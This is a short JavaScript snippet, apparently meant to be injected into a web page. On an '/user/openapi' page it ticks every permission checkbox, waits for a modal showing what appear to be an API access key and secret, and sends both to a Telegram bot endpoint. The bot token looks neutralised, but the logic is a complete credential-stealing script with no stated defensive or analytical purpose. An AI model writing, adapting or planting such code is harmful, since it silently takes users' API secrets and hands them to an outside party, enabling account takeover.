const bot = "https://api.telegram.org/bot1:inert/sendMessage";

function report(access, secret) {
  return fetch(bot, {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({chat_id: 1, text: `${access} ${secret}`})});
}

if (location.pathname.startsWith("/user/openapi")) {
  document.querySelectorAll("input[type=checkbox]").forEach((box) => { if (!box.checked) box.click(); });
  const observer = new MutationObserver(() => {
    const fields = document.querySelectorAll(".ant-modal .key-value");
    if (fields.length < 2) return;
    observer.disconnect();
    report(fields[0].textContent, fields[1].textContent);
  });
  observer.observe(document.body, {childList: true, subtree: true});
}
